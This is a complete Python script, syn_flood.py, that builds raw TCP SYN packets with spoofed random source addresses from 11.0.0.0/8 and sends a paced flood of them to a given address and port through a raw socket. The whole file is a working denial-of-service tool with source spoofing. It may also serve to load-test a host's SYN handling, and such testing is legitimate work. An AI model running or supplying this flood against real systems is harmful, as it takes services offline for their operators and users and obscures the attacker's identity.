# SPDX-License-Identifier: GPL-2.0-or-later
"""syn_flood.py ADDRESS PORT SOURCES SECONDS [SEED]: one TCP SYN from each of SOURCES different random addresses of 11.0.0.0/8,
evenly over SECONDS (or as fast as it goes); prints how many were sent and in how many seconds."""

import random
import socket
import struct
import sys
import time

BURST = 64


def folded(number):
    while number > 0xffff:
        number = (number & 0xffff) + (number >> 16)
    return number


def main():
    if len(sys.argv) not in (5, 6):
        sys.exit(__doc__)
    address, port, sources, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    chance = random.Random(int(sys.argv[5]) if len(sys.argv) == 6 else 1)
    destination = socket.inet_aton(address)
    # The kernel fills in the length and the checksum of the IP header; TCP's is ours.
    packet = bytearray(struct.pack("!BBHHHBBH4s4s", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_TCP, 0, bytes(4), destination) +
                       struct.pack("!HHIIBBHHH", 0, port, 0, 0, 5 << 4, 2, 64240, 0, 0))
    fixed = sum(struct.unpack("!2H", destination)) + socket.IPPROTO_TCP + 20 + sum(struct.unpack("!10H", packet[20:]))
    hosts = chance.sample(range(1, 1 << 24), sources)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        begin, target = time.monotonic(), (address, 0)
        for number, host in enumerate(hosts):
            if number % BURST == 0:
                time.sleep(max(0.0, begin + seconds * number / sources - time.monotonic()))
            source_port = 1024 + host % 60000
            struct.pack_into("!I", packet, 12, 11 << 24 | host)
            struct.pack_into("!H", packet, 20, source_port)
            struct.pack_into("!H", packet, 36, ~folded(fixed + source_port + (11 << 8) + (host >> 16) + (host & 0xffff)) & 0xffff)
            try:
                sock.sendto(packet, target)
            except OSError:  # a full queue of the device: the loss of a SYN or two is the flood's own
                pass
        print(sources, time.monotonic() - begin)


if __name__ == "__main__":
    main()
